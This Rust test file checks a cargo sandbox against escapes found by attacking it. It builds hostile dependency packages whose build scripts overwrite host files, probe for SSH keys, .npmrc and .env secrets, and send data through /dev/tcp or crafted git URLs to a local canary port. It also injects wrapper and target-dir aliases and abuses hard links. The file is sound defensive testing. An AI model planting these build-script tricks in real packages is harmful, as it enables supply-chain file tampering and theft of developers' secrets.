//! Ways out that were found by attacking the product: each worked once.

use std::fs;
use std::path::Path;

use crate::support::canary::Canary;
use crate::support::command::Run;
use crate::support::project::Project;
use crate::support::unique;

const PACKAGE: &str = "node_modules/evil";
const MANIFEST: &str = "node_modules/evil/Cargo.toml";

/// A host with one package, which has this build script and this at the end of its manifest.
fn host(script: &str, manifest: &str) -> Project {
    let project = Project::named("host");
    project
        .file("package.json", "{\"name\": \"host\"}\n")
        .file("src/index.js", "the host's\n")
        .file(format!("{PACKAGE}/src/lib.rs"), "")
        .file(format!("{PACKAGE}/build.rs"), script)
        .file(
            MANIFEST,
            format!(
                "[package]\nname = \"evil\"\nversion = \"0.1.0\"\nedition = \"2021\"\n{manifest}"
            ),
        );
    project
}

const WORKSPACE: &str = "[workspace]\n";
const OVERWRITE: &str = "fn main() { let _ = std::fs::write(\"../../src/index.js\", \"evil\"); }\n";

fn from_the_host(run: Run) -> Run {
    run.args(["build", "--manifest-path", MANIFEST])
}

fn from_the_package(run: Run, project: &Project) -> Run {
    run.directory(project.path(PACKAGE))
}

fn canary(project: &Project) -> Canary {
    let folder = project.root().join(unique());
    fs::create_dir_all(&folder).unwrap();
    Canary::start(&folder, &unique(), b"", Vec::new())
}

#[track_caller]
fn assert_untouched(project: &Project) {
    let text = fs::read_to_string(project.path("src/index.js")).unwrap();
    assert_eq!(text, "the host's\n");
}

#[test]
fn control_plain_cargo_overwrites_the_host() {
    let project = host(OVERWRITE, WORKSPACE);
    from_the_host(project.plain()).success();
    assert_eq!(
        fs::read_to_string(project.path("src/index.js")).unwrap(),
        "evil"
    );
    let project = host(OVERWRITE, WORKSPACE);
    from_the_host(project.sandboxed()).success();
    assert_untouched(&project);
}

#[test]
fn cache_directory_holds_no_token() {
    let project = host("fn main() {}\n", WORKSPACE);
    let token = format!("cio{}", "7q".repeat(16));
    from_the_host(project.sandboxed())
        .env("CARGO_REGISTRY_TOKEN", &token)
        .env("CARGO_REGISTRIES_X_TOKEN", &token)
        .success();
    let cache = project.path(".perry-cache");
    let mut looked_at = 0;
    for entry in fs::read_dir(cache).unwrap() {
        let text = fs::read(entry.unwrap().path()).unwrap();
        assert!(!String::from_utf8_lossy(&text).contains(&token));
        looked_at += 1;
    }
    assert!(looked_at > 2, "only {looked_at} files");
}

#[test]
fn target_folder_of_a_dependency_stays_inside_it() {
    let project = host(OVERWRITE, WORKSPACE);
    let settings = format!("{PACKAGE}/.cargo/config.toml");
    project.file(&settings, "build.target-dir = \"../../src\"\n");
    from_the_package(project.sandboxed(), &project)
        .arg("build")
        .finish()
        .code(125)
        .stderr_has("outside");
    assert_untouched(&project);
    // The same spelling that leads inside.
    project.file(&settings, "build.target-dir = \"../evil/artifacts\"\n");
    from_the_package(project.sandboxed(), &project)
        .arg("build")
        .success();
    assert!(project.path(PACKAGE).join("artifacts/debug").is_dir());
}

#[test]
fn alias_of_a_dependency_is_refused() {
    for words in [
        "\"--target-dir\", \"../../src\"",
        "\"--config\", \"build.rustc-wrapper='./evil.sh'\"",
    ] {
        let project = host(OVERWRITE, WORKSPACE);
        project.file(
            format!("{PACKAGE}/.cargo/config.toml"),
            format!("alias.b = [\"build\", {words}]\n"),
        );
        from_the_package(project.sandboxed(), &project)
            .arg("b")
            .finish()
            .code(125)
            .stderr_has("cargo would obey a dependency's configuration");
        assert_untouched(&project);
    }
}

#[test]
fn fetch_starts_no_program_of_a_dependency() {
    let project = host("fn main() {}\n", WORKSPACE);
    let mut canary = canary(&project);
    let script = format!(
        "#!/bin/bash\necho evil 2>/dev/null > /dev/tcp/127.0.0.1/{}\nPATH=${{PATH#*:}} exec rustc \"$@\"\n",
        canary.tcp
    );
    project.program("node_modules/.bin/rustc", script);
    let mut path = project.path("node_modules/.bin").into_os_string();
    path.push(":");
    path.push(crate::support::toolchain::path());
    from_the_host(project.sandboxed())
        .env("PATH", &path)
        .success();
    assert_eq!(String::from_utf8_lossy(&canary.stop()), "");

    // Plain cargo does start it.
    let mut canary = self::canary(&project);
    let script = format!(
        "#!/bin/bash\necho evil 2>/dev/null > /dev/tcp/127.0.0.1/{}\nPATH=${{PATH#*:}} exec rustc \"$@\"\n",
        canary.tcp
    );
    project.program("node_modules/.bin/rustc", script);
    fs::remove_dir_all(project.path(PACKAGE).join("target")).unwrap();
    from_the_host(project.plain()).env("PATH", &path).success();
    assert!(!canary.stop().is_empty());
}

#[test]
fn fetch_obeys_no_manifest_that_a_build_wrote() {
    const SCRIPT: &str = r#"fn main() {
        let found = std::fs::read_to_string("../../src/index.js").unwrap();
        let found = found.split('\'').next().unwrap().replace(' ', "-");
        std::fs::create_dir_all("target/made-2/src").unwrap();
        std::fs::write("target/made-2/src/lib.rs", "").unwrap();
        let manifest = "[package]\nname = \"made-2\"\nversion = \"0.1.0\"\n[dependencies]\n";
        let url = format!("x = {{ git = \"http://127.0.0.1:PORT/{found}\" }}\n");
        std::fs::write("target/made-2/Cargo.toml", format!("{manifest}{url}")).unwrap();
    }"#;
    let members = "[workspace]\nmembers = [\"target/made-*\"]\n";
    let project = host("fn main() {}\n", members);
    let mut canary = canary(&project);
    project
        .file(
            format!("{PACKAGE}/build.rs"),
            SCRIPT.replace("PORT", &canary.tcp.to_string()),
        )
        .file(
            format!("{PACKAGE}/target/made-1/Cargo.toml"),
            "[package]\nname = \"made-1\"\nversion = \"0.1.0\"\n",
        )
        .file(format!("{PACKAGE}/target/made-1/src/lib.rs"), "");
    from_the_host(project.sandboxed()).finish();
    from_the_host(project.sandboxed()).finish();
    assert_eq!(String::from_utf8_lossy(&canary.stop()), "");

    let mut canary = self::canary(&project);
    project.file(
        format!("{PACKAGE}/build.rs"),
        SCRIPT.replace("PORT", &canary.tcp.to_string()),
    );
    from_the_host(project.plain()).success();
    from_the_host(project.plain()).finish();
    assert!(String::from_utf8_lossy(&canary.stop()).contains("/the-host"));
}

#[test]
fn artifacts_that_are_other_files_are_refused() {
    let script = "fn main() { std::fs::write(\"target/x.js\", \"evil\").unwrap(); }\n";
    let project = host(script, WORKSPACE);
    let artifact = project.path(PACKAGE).join("target/x.js");
    // As pnpm and bun do it with files of equal contents.
    let link = |text: &str| {
        fs::create_dir_all(artifact.parent().unwrap()).unwrap();
        project.file("node_modules/lodash/index.js", text);
        fs::hard_link(project.path("node_modules/lodash/index.js"), &artifact).unwrap();
    };
    link("lodash's\n");
    from_the_host(project.sandboxed())
        .finish()
        .code(125)
        .stderr_has("is also a file outside the package's target folder");
    let read = || fs::read_to_string(project.path("node_modules/lodash/index.js")).unwrap();
    assert_eq!(read(), "lodash's\n");
    from_the_host(project.plain()).success();
    assert_eq!(read(), "evil");
}

/// What a build script can read of these files.
fn readable(project: &Project, run: Run, files: &[&Path]) -> Vec<bool> {
    let list: Vec<_> = files
        .iter()
        .map(|file| format!("{:?}", file.to_str().unwrap()))
        .collect();
    let script = format!(
        "fn main() {{ for file in [{}] {{
            let found = std::fs::read_to_string(file).is_ok_and(|text| text.contains(\"CANARY\"));
            println!(\"cargo:warning=found {{found}}\"); }} }}\n",
        list.join(", ")
    );
    project.file(format!("{PACKAGE}/build.rs"), script);
    let finished = from_the_host(run).success();
    let text = String::from_utf8_lossy(&finished.stderr).into_owned();
    text.lines()
        .filter_map(|line| line.split_once(": found "))
        .map(|(_, found)| found == "true")
        .collect()
}

#[test]
fn secrets_behind_links_are_hidden() {
    let project = host("", WORKSPACE);
    let vault = project.root().join("vault");
    crate::support::project::write(&vault.join("id_rsa"), "CANARY");
    crate::support::project::write(&vault.join("other"), "CANARY");
    std::os::unix::fs::symlink(vault.join("id_rsa"), project.home(".npmrc")).unwrap();
    let files = [
        &*project.home(".npmrc"),
        &vault.join("id_rsa"),
        &vault.join("other"),
    ];
    // The last one is the control: not a secret by any name.
    let sandboxed = || project.sandboxed().env("PERRY_SANDBOX_PROFILE", "compat");
    assert_eq!(
        readable(&project, sandboxed(), &files),
        [false, false, true]
    );
}

#[test]
fn a_package_cannot_use_up_the_search_for_secrets() {
    let project = host("", WORKSPACE);
    project.file("apps/web/.env", "CANARY");
    for number in 0..4200 {
        project.file(format!("{PACKAGE}/{number}"), "");
    }
    let secret = project.path("apps/web/.env");
    assert_eq!(readable(&project, project.sandboxed(), &[&secret]), [false]);
    fs::rename(&secret, project.path("apps/web/env")).unwrap();
    let control = project.path("apps/web/env");
    assert_eq!(readable(&project, project.sandboxed(), &[&control]), [true]);
}

#[test]
fn compat_leaves_cargos_list_of_things_to_delete_alone() {
    let script = "fn main() { let home = std::env::var(\"CARGO_HOME\").unwrap();
        let found = std::fs::OpenOptions::new().write(true).open(home + \"/.global-cache\");
        println!(\"cargo:warning=found {}\", found.is_ok()); }\n";
    let said = |run: Run| {
        let finished = from_the_host(run).success();
        String::from_utf8_lossy(&finished.stderr).contains(": found true")
    };
    let project = host(script, WORKSPACE);
    let sandboxed = project.sandboxed().env("PERRY_SANDBOX_PROFILE", "compat");
    assert!(!said(sandboxed));
    let project = host(script, WORKSPACE);
    project.home_file(".cargo/.global-cache", "");
    assert!(said(project.plain()));
}

/// More levels than a process may have open, with the last one closed: std gives up on them.
#[test]
fn what_a_build_leaves_in_its_temporary_folders_goes() {
    const DEEP: &str = r#"
use std::os::unix::fs::DirBuilderExt;
use std::{env, fs};

fn main() {
    let root = env::temp_dir();
    println!("cargo::warning=TMPDIR={}", root.display());
    env::set_current_dir(&root).unwrap();
    for _ in 0..2500 {
        fs::create_dir("folder").unwrap();
        env::set_current_dir("folder").unwrap();
    }
    fs::write("payload", "").unwrap();
    fs::DirBuilder::new().mode(0).create("closed").unwrap();
}
"#;
    for (profile, command) in [("strict", "build"), ("strict", "run"), ("compat", "run")] {
        let project = Project::named("host");
        project
            .file(
                "Cargo.toml",
                "[package]\nname = \"app\"\nversion = \"0.1.0\"\nedition = \"2021\"\n[workspace]\n",
            )
            .file("build.rs", DEEP)
            .file("src/main.rs", "fn main() {}\n");
        let run = project.sandboxed().env("PERRY_SANDBOX_PROFILE", profile);
        let run = run.arg(command).success();
        let text = String::from_utf8_lossy(&run.stderr).into_owned();
        let folder = text
            .split("TMPDIR=")
            .nth(1)
            .unwrap()
            .lines()
            .next()
            .unwrap();
        // Where no other unit may write, also where `/tmp` is everybody's.
        let cache = project.path(".perry-cache").canonicalize().unwrap();
        assert!(
            Path::new(folder).starts_with(&cache),
            "{profile} {command}: {folder}"
        );
        assert!(!Path::new(folder).exists(), "{profile} {command}: {folder}");
        let left: Vec<_> = fs::read_dir(&cache)
            .unwrap()
            .map(|entry| entry.unwrap().file_name().into_string().unwrap())
            .filter(|name| name.starts_with("temporary-") || name.starts_with("sandboxed-cargo."))
            .filter(|name| {
                fs::read_dir(cache.join(name).join("tmp")).is_ok_and(|mut all| all.next().is_some())
            })
            .collect();
        assert!(left.is_empty(), "{profile} {command}: {left:?}");
    }
}
